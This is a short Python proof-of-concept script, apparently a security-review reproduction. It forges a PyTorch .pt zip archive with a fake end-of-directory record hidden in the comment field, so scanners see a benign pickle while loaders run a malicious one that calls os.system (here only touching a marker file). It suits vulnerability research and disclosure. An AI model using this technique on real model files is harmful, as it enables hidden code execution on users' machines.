from zipw import *
import struct
ben=[('archive/data.pkl',b'\x80\x02}'+X('w')+T('0')+b's.'),('archive/data/0',b'\0'*16),('archive/version',b'3\n')]
evil=[('archive/data.pkl',b"cos\nsystem\n(Vtouch /tmp/review/repro/PWNED\ntR."),('archive/version',b'3\n')]
el,ec=zipb(evil); base=len(el)+len(ec); bl,bc=zipb(ben,base)
fake=eocd(2,ec,len(el))+b'\0\0'          # fake end record inside the real one's comment
open('eocd.pt','wb').write(el+ec+bl+bc+eocd(3,bc,base+len(bl),fake))
